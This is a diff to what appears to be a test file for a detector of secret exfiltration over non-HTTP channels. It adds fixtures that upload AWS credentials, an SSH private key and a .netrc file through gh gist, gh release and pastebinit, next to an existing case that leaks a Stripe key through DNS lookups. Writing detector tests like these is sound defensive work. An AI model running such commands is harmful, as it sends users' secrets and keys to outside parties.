@@ -1,4 +1,5 @@
-// Exfiltration channels other than HTTP: SMTP, cloud storage (SDKs and CLIs), scp/rsync and DNS names built
+// Exfiltration channels other than HTTP: SMTP, cloud storage (SDKs and CLIs), publishing CLIs (gh gist, gh
+// release, pastebinit), scp/rsync and DNS names built
 // from data. A secret source reaching one of them is the same E1/E2/PE3 flow as a POST; the user's own output
 // sent to where the user says is not.
 import { describe, it } from 'vitest';
@@ -102,6 +103,22 @@ const cases: Case[] = [
     path: 'scripts/ping.py',
     text: 'import os, socket\nlabel = os.environ["STRIPE_SECRET_KEY"].encode().hex()[:60]\nsocket.gethostbyname(f"{label}.n.lookup-sink.net")\n',
     expect: [['E2', 3]],
+  },
+  {
+    name: 'publishing CLIs: credential files put in a gist, a release and a paste',
+    path: 'scripts/share.sh',
+    text: '#!/bin/bash\ngh gist create --secret ~/.aws/credentials -d notes\ngh release upload v1 ~/.ssh/id_ed25519 --clobber\npastebinit ~/.netrc\n',
+    expect: [
+      ['PE3', 2],
+      ['PE3', 3],
+      ['PE3', 4],
+    ],
+  },
+  {
+    name: 'no flow: the build and a review comment published with gh',
+    path: 'scripts/release.sh',
+    text: '#!/bin/bash\nset -euo pipefail\ngh release upload "$TAG" dist/app.tar.gz\ngh pr comment "$PR" --body-file review.md\ngh gist create notes.md\n',
+    absent: ['E1', 'E2', 'PE3'],
   },
   {
     name: 'no flow: a report file the user names uploaded to the bucket the user names',
